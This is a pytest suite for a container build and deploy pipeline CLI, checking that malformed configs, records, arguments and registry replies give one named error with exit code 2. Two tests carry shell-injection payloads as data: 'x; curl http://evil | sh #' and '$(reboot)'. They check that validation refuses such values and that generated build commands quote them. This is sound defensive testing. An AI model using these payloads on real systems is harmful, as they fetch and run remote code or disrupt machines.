"""No input ends in a traceback: every error a user can cause is a SlipwayError that names the file and field (or
image and platform), printed once by the CLI with exit 2."""

from __future__ import annotations

import json
import socket
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest

from pipeline.cli import main
from pipeline.config import ConfigError
from pipeline.errors import SlipwayError
from pipeline.oci import OCI_MANIFEST
from pipeline.records import BuildRecord, ImageRecord, PlatformImage, RecordError, write
from pipeline.registry.base import RegistryError, RepositoryRef
from pipeline.registry.distribution import DistributionClient
from pipeline.stitch import StitchError, stitch, verify
from tests.conftest import EXAMPLE
from tests.fakes import MemoryRegistry

REPO = "registry.example/payments/api"


def run_cli(argv: list[str], capsys: pytest.CaptureFixture[str]) -> tuple[int, str]:
    try:
        code = main(argv)
    except SystemExit as exc:  # argparse: usage errors
        code = int(exc.code or 0)
    return code, capsys.readouterr().err


def test_config_error_is_a_slipway_input_error() -> None:
    assert issubclass(ConfigError, SlipwayError) and ConfigError(Path("p"), ["x"]).exit_code == 2


def bad_config(tmp_path: Path) -> Path:
    path = tmp_path / "bad.toml"
    path.write_text(EXAMPLE.read_text().replace('region = "eu-west-1"', 'region = "eu-west-\u0661"'))
    return path


@pytest.mark.parametrize(
    "argv",
    [
        ["lint", "--config", "{bad}", "{example_dockerfile}"],
        ["local", "--state", "{tmp}", "run", "--config", "{bad}"],
        ["local", "--state", "{tmp}", "seed", "--config", "{bad}"],
        ["validate", "{bad}"],
    ],
)
def test_a_bad_config_is_one_message_naming_the_key(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], argv: list[str]
) -> None:
    bad = bad_config(tmp_path)
    values = {"bad": str(bad), "tmp": str(tmp_path), "example_dockerfile": str(EXAMPLE.parent / "examples/web")}
    code, err = run_cli([a.format(**values) for a in argv], capsys)
    assert code == 2
    assert f"{bad}: platform.region: expected an AWS region such as 'eu-west-1', got 'eu-west-\u0661'" in err
    assert "Traceback" not in err


def test_unknown_service_is_named(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    code, err = run_cli(["local", "--state", str(tmp_path), "run", "nosuch/svc", "--config", str(EXAMPLE)], capsys)
    assert code == 2
    assert "service 'nosuch/svc' not found (known: payments/api, search/indexer)" in err


def test_release_tag_with_a_space_is_refused_before_any_request(tmp_path: Path) -> None:
    registry = MemoryRegistry()
    build = BuildRecord(REPO, "linux/amd64", registry.add_image(REPO, "linux", "amd64"), 1, 1.0, "buildx")
    with pytest.raises(SlipwayError, match=r"release tag 'a b': expected 1-128 letters") as info:
        stitch(registry, [build], tag="a b")
    assert info.value.exit_code == 2 and registry.puts == []


@pytest.mark.parametrize(
    ("document", "message"),
    [
        ([1], "expected a JSON object"),
        ({"repository": REPO}, "field 'platform': expected str, got None"),
        ({"repository": REPO, "platform": "linux amd64"}, "field 'platform': expected a platform such as 'linux/arm64'"),
        (
            {"repository": REPO, "platform": "linux/amd64", "digest": "sha256:" + "a" * 64, "size": 1, "seconds": "x"},
            "field 'seconds': expected int or float, got 'x'",
        ),
        (
            {"repository": REPO, "platform": "linux/amd64", "digest": "sha256:" + "a" * 64, "size": 1, "seconds": 1,
             "builder": "buildx", "cache_hits": "many"},
            "field 'cache_hits': expected int, got 'many'",
        ),
    ],
)  # fmt: skip
def test_a_malformed_build_record_names_the_field(tmp_path: Path, document: object, message: str) -> None:
    path = tmp_path / "build.json"
    path.write_text(json.dumps(document))
    with pytest.raises(RecordError, match=rf"{path}: {message}"):
        BuildRecord.load(path)


def test_a_malformed_image_json_names_the_platform(tmp_path: Path) -> None:
    path = tmp_path / "image.json"
    path.write_text(json.dumps({"repository": REPO, "tag": "t", "index_digest": "sha256:" + "a" * 64,
                                "platforms": {"linux/amd64": [1]}}))  # fmt: skip
    with pytest.raises(RecordError, match=r"field 'platforms.linux/amd64': expected a platform and an object"):
        ImageRecord.load(path)


def test_a_lock_in_the_environment_that_is_not_an_object(monkeypatch: pytest.MonkeyPatch) -> None:
    from pipeline import bases

    monkeypatch.setenv(bases.LOCK_ENV, "[1]")
    with pytest.raises(bases.LockError, match=r"SLIPWAY_BASE_LOCK: expected an object of build argument"):
        bases.from_environment()


@pytest.mark.parametrize(
    "text",
    ["{", "[]", '{"services": [1]}', '{"services": {"registry": {"pid": "x"}}}', '{"services": {"a": {"b": 1}}}'],
)
def test_a_broken_state_file_is_named(tmp_path: Path, text: str) -> None:
    from pipeline.local.state import LocalState, StateError

    (tmp_path / "state.json").write_text(text)
    with pytest.raises(StateError, match=rf"{tmp_path / 'state.json'}: .*remove the file"):
        LocalState.load(tmp_path)


def test_bases_update_refuses_a_lock_that_is_not_there(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    lock = tmp_path / "typo" / "dir" / "lock.json"
    code, err = run_cli(["bases", "update", "--lock", str(lock), "--registry", "127.0.0.1:1"], capsys)
    assert code == 2 and f"{lock}: no lock there" in err
    assert not lock.parent.exists()


@pytest.mark.parametrize("command", [["lint", "{dir}"], ["build", "--repository", "r.example/a/b", "--platform",
                                                          "linux/amd64", "--out", "{dir}/b.json"]])  # fmt: skip
def test_a_build_arg_without_value_is_refused(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], command: list[str]
) -> None:
    (tmp_path / "Dockerfile").write_text("FROM scratch\n")
    argv = [a.format(dir=tmp_path) for a in command] + ["--build-arg", "NOVALUE"]
    code, err = run_cli(argv, capsys)
    assert code == 2 and "--build-arg 'NOVALUE': expected NAME=VALUE" in err


@pytest.mark.parametrize(
    ("option", "value", "message"),
    [
        ("--namespace", "Bad NS", "argument --namespace: expected a DNS label"),
        ("--timeout", "nan", "argument --timeout: expected a finite number of seconds >= 0, got 'nan'"),
        ("--timeout", "-5", "argument --timeout: expected a finite number of seconds >= 0, got '-5'"),
    ],
)
def test_deploy_eks_refuses_what_kubernetes_would(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], option: str, value: str, message: str
) -> None:
    argv = ["deploy", "eks", "--cluster", "c", "--namespace", "ns", "--deployment", "d", "--container", "c",
            "--render-only", str(tmp_path / "out.json")]  # fmt: skip
    argv[argv.index(option) + 1 if option in argv else len(argv) :] = (
        [value, *argv[argv.index(option) + 2 :]] if option in argv else [option, value]
    )
    code, err = run_cli(argv, capsys)
    assert code == 2 and message in err
    assert not (tmp_path / "out.json").exists()


@pytest.fixture
def odd_server() -> Iterator[tuple[str, list[bytes]]]:
    """A TCP server on 127.0.0.1 that answers each connection with the next canned reply."""
    replies: list[bytes] = []
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen()

    def serve() -> None:
        while True:
            try:
                connection, _ = listener.accept()
            except OSError:
                return
            with connection:
                connection.recv(65536)
                connection.sendall(replies.pop(0) if replies else b"")

    threading.Thread(target=serve, daemon=True).start()
    try:
        yield f"127.0.0.1:{listener.getsockname()[1]}", replies
    finally:
        listener.close()


@pytest.mark.parametrize(
    ("reply", "message"),
    [
        (b"SSH-2.0-OpenSSH_9.2\r\n", r"did not answer as an OCI registry \(BadStatusLine"),
        (b"HTTP/1.1 200 OK\r\nContent-Length: 100\r\n\r\nshort", r"did not answer as an OCI registry \(IncompleteRead"),
    ],
)
def test_a_registry_that_does_not_speak_http_is_named(
    odd_server: tuple[str, list[bytes]], reply: bytes, message: str
) -> None:
    address, replies = odd_server
    replies.append(reply)
    with pytest.raises(RegistryError, match=rf"image {address}/a/b:t: http://{address}/v2/a/b/manifests/t {message}"):
        DistributionClient().get_manifest(RepositoryRef(address, "a/b"), "t", [OCI_MANIFEST])


def test_a_reference_that_makes_no_url_is_named() -> None:
    with pytest.raises(RegistryError, match=r"not a valid registry URL"):
        DistributionClient().get_manifest(RepositoryRef("127.0.0.1:5000", "a b"), "t", [OCI_MANIFEST])


def test_verify_hashes_the_config_blob() -> None:
    registry = MemoryRegistry()
    builds = [BuildRecord(REPO, "linux/amd64", registry.add_image(REPO, "linux", "amd64"), 1, 1.0, "buildx")]
    record = stitch(registry, builds, tag="t1").record
    manifest = registry.get_manifest(RepositoryRef.parse(REPO), builds[0].digest, [OCI_MANIFEST]).json()
    config = manifest["config"]["digest"]
    registry.blobs[config] = registry.blobs[config].replace(b'"os":"linux"', b'"os":"linux","Cmd":["sh"]')
    with pytest.raises(SlipwayError, match=rf"config blob hashes to sha256:\w+, the manifest names {config}"):
        verify(registry, record)


def test_a_tag_on_a_single_platform_manifest_says_so() -> None:
    registry = MemoryRegistry()
    digest = registry.add_image(REPO, "linux", "amd64")
    manifest = registry.get_manifest(RepositoryRef.parse(REPO), digest, [OCI_MANIFEST])
    registry.put_manifest(RepositoryRef.parse(REPO), "t1", manifest)
    record = ImageRecord(REPO, "t1", digest, {"linux/amd64": PlatformImage(digest, 1, OCI_MANIFEST)})
    with pytest.raises(
        StitchError, match=rf"image {REPO}@{digest}: names a single-platform manifest .*not an image index"
    ):
        verify(registry, record)


def test_write_of_a_record_is_readable_back(tmp_path: Path) -> None:
    build = BuildRecord(REPO, "linux/arm64", "sha256:" + "b" * 64, 3, 1.5, "buildx", "r:cache-arm64", 2)
    write(tmp_path / "b.json", build)
    assert BuildRecord.load(tmp_path / "b.json") == build


INJECTION = "x; curl http://evil | sh #"


def test_shell_injection_in_a_context_is_refused_with_exit_2(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = tmp_path / "platform.toml"
    path.write_text(EXAMPLE.read_text().replace('context = "."', f'context = "{INJECTION}"', 1))
    code, err = run_cli(["validate", str(path)], capsys)
    assert code == 2
    assert "teams[0].services[0].context: expected a relative path inside the repository" in err
    assert repr(INJECTION) in err


def test_buildspec_quotes_every_config_value_even_unvalidated_ones() -> None:
    """Defence in depth: a value that bypassed validation still reaches the shell as one word."""
    import shlex

    from infra import buildspecs
    from infra.blueprint import BuildStep, PipelineBlueprint

    blueprint = PipelineBlueprint(
        team="payments", service="api", repository_name="payments/api", source_repo="acme/api", branch="main",
        dockerfile="Dockerfile", context=INJECTION, file_paths=(), secrets=(),
        builds=(BuildStep("linux/amd64", "x86"),), deploys=(), target="$(reboot)",
    )  # fmt: skip
    [command] = buildspecs.build(blueprint, blueprint.builds[0])["phases"]["build"]["commands"]
    words = shlex.split(command)
    assert words[words.index("--context") + 1] == INJECTION
    assert words[words.index("--target") + 1] == "$(reboot)"
    [lint] = buildspecs.lint(blueprint, "111111111111.dkr.ecr.eu-west-1.amazonaws.com")["phases"]["build"]["commands"]
    assert shlex.split(lint)[-1] == f"{INJECTION}/Dockerfile"
